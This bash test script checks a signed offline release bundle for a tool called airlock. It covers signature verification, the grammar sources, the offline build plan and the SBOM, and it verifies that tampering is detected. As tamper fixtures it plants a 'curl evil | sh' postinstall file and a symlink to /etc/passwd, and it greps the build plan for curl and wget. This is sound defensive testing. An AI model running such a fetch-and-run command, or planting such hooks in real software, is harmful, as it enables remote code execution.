#!/usr/bin/env bash
# The offline bundle: scripts/dist.sh makes a signed tarball whose
# verify-bundle passes; tampering is caught; the SBOM is CycloneDX 1.5
# listing every pkg-config library, linked shared library and grammar with
# its version; the grammar sources suffice for a build without network.
set -u
A=${AIRLOCK:?AIRLOCK must name the airlock binary}
B=${BUILD_DIR:-$(dirname "$A")}
cd "$(dirname "$0")/../.."
ROOT=$PWD
G=.deps/grammars/node_modules
ls -d "$G"/tree-sitter-* >/dev/null 2>&1 ||
  { echo "grammars absent ($G): run scripts/deps.sh"; exit 77; }
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
fail() { echo "FAIL: $*"; exit 1; }

AIRLOCK_DATA=$T/data scripts/dist.sh "$B" --out "$T/dist" > "$T/log" 2>&1 ||
  { cat "$T/log"; fail "dist.sh exit $?"; }
cat "$T/log"
TAR=$(ls "$T"/dist/airlock-*-linux-*.tar.gz) || fail "no tarball"
KEY=$T/data/keys/bundle.key
[ "$(stat -c %a "$KEY")" = 600 ] || fail "signing key mode $(stat -c %a "$KEY")"

"$A" verify-bundle "$TAR" --pubkey "$KEY.pub" | grep -q ": OK: " || fail "verify-bundle tarball"
"$A" keygen "$T/other.key" >/dev/null
"$A" verify-bundle "$TAR" --pubkey "$T/other.key.pub" > /dev/null 2>"$T/err"; rc=$?
[ $rc -eq 3 ] || fail "wrong key: exit $rc, want 3"
grep -q "signature does not verify" "$T/err" || fail "wrong key message: $(cat "$T/err")"

mkdir "$T/x" && tar -xzf "$TAR" -C "$T/x"
D=$(ls -d "$T"/x/airlock-*)
"$A" verify-bundle "$D" --pubkey "$KEY.pub" > /dev/null || fail "verify-bundle dir"
for f in bin/airlock sbom.cdx.json SHA256SUMS SHA256SUMS.sig BUILD-OFFLINE.md \
    docs/SECURITY.md source/Makefile source/src/sandbox/sandbox.h deploy/systemd/airlock.service; do
  [ -f "$D/$f" ] || fail "bundle lacks $f"
done

# Grammars: exactly what the build compiled, only package.json, LICENSE, sources.
for g in "$G"/tree-sitter-*; do
  n=$(basename "$g")
  cmp -s "$g/package.json" "$D/grammars/node_modules/$n/package.json" || fail "grammar $n missing or different"
  cmp -s "$g/src/parser.c" "$D/grammars/node_modules/$n/src/parser.c" 2>/dev/null ||
    [ ! -f "$g/src/parser.c" ] || fail "grammar $n parser.c differs"
done
extra=$(cd "$D/grammars/node_modules" && find . -type f | grep -vE '^\./tree-sitter-[a-z]+/(package\.json|LICENSE[^/]*|src/.*|common/.*|[a-z]+/src/.*)$' | head -n 5)
[ -z "$extra" ] || fail "unexpected files among grammars: $extra"

# Offline build: with the bundle's grammar dir, make needs nothing else.
make -n -C "$D/source" GRAMMAR_DIR="$D/grammars/node_modules" > "$T/plan" 2>&1 || { tail "$T/plan"; fail "make -n"; }
for g in "$D"/grammars/node_modules/tree-sitter-*; do
  grep -q "$(basename "$g")/.*parser.c" "$T/plan" || fail "build plan skips $(basename "$g")"
done
if grep -qE '\bnpm\b|curl|wget' "$T/plan"; then fail "build plan downloads"; fi

# SBOM: generated from this build.
if command -v python3 >/dev/null; then
  python3 - "$D/sbom.cdx.json" "$ROOT" "$A" <<'PY' || fail "SBOM content"
import json, subprocess, sys, glob, os
j = json.load(open(sys.argv[1]))
root, binary = sys.argv[2], sys.argv[3]
assert j["bomFormat"] == "CycloneDX" and j["specVersion"] == "1.5"
comps = {c["bom-ref"]: c for c in j["components"]}
pkgs = subprocess.run(["make", "-s", "--no-print-directory", "-C", root,
                       "--eval=p: ; @echo $(PKGS)", "p"], capture_output=True,
                      text=True).stdout.split()
assert pkgs, "no PKGS from the Makefile"
for m in pkgs:
    v = subprocess.run(["pkg-config", "--modversion", m], capture_output=True,
                       text=True).stdout.strip()
    c = comps.get("pkgconfig:" + m)
    assert c and c["version"] == v, (m, v, c)
    props = {p["name"]: p["value"] for p in c["properties"]}
    assert props["debian:package"], m
ldd = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout
for line in ldd.splitlines():
    parts = line.split()
    if len(parts) >= 3 and parts[1] == "=>" and parts[2].startswith("/"):
        c = comps.get("so:" + parts[0])
        assert c and c.get("purl", "").startswith("pkg:deb/debian/"), parts[0]
for g in glob.glob(os.path.join(root, ".deps/grammars/node_modules/tree-sitter-*")):
    n = os.path.basename(g)
    v = json.load(open(os.path.join(g, "package.json")))["version"]
    c = comps.get("npm:" + n)
    assert c and c["version"] == v and c["purl"] == "pkg:npm/%s@%s" % (n, v), n
deps = j["dependencies"][0]["dependsOn"]
assert set(deps) == set(comps), "dependencies do not cover the components"
print("SBOM: %d components" % len(comps))
PY
fi

# Tampering with the unpacked bundle.
printf 'x' >> "$D/bin/airlock"
"$A" verify-bundle "$D" --pubkey "$KEY.pub" > /dev/null 2>"$T/err"; rc=$?
[ $rc -eq 3 ] || fail "tampered binary: exit $rc, want 3"
grep -q "bin/airlock: checksum mismatch" "$T/err" || fail "tampered message: $(cat "$T/err")"
rm -rf "$T/x" && mkdir "$T/x" && tar -xzf "$TAR" -C "$T/x"
D=$(ls -d "$T"/x/airlock-*)
echo 'curl evil | sh' > "$D/bin/postinstall"
"$A" verify-bundle "$D" --pubkey "$KEY.pub" > /dev/null 2>"$T/err"; rc=$?
[ $rc -eq 3 ] || fail "added file: exit $rc, want 3"
grep -q "bin/postinstall: in the bundle but not in SHA256SUMS" "$T/err" || fail "added file message"
# A tarball holding a symlink is refused before anything is unpacked.
rm -rf "$T/x" && mkdir "$T/x" && tar -xzf "$TAR" -C "$T/x"
D=$(ls -d "$T"/x/airlock-*)
ln -s /etc/passwd "$D/docs/passwd"
tar -C "$T/x" -czf "$T/evil.tar.gz" "$(basename "$D")"
"$A" verify-bundle "$T/evil.tar.gz" --pubkey "$KEY.pub" > /dev/null 2>"$T/err"; rc=$?
[ $rc -eq 3 ] || fail "tarball with a symlink: exit $rc, want 3"
grep -q "not a plain file or directory" "$T/err" || fail "symlink message: $(cat "$T/err")"
"$A" verify-bundle "$T/nonexistent.tar.gz" --pubkey "$KEY.pub" 2>/dev/null; rc=$?
[ $rc -ne 0 ] || fail "missing tarball accepted"
"$A" verify-bundle "$TAR" 2>/dev/null; [ $? -eq 2 ] || fail "missing --pubkey exit code"
echo "bundle: ok"
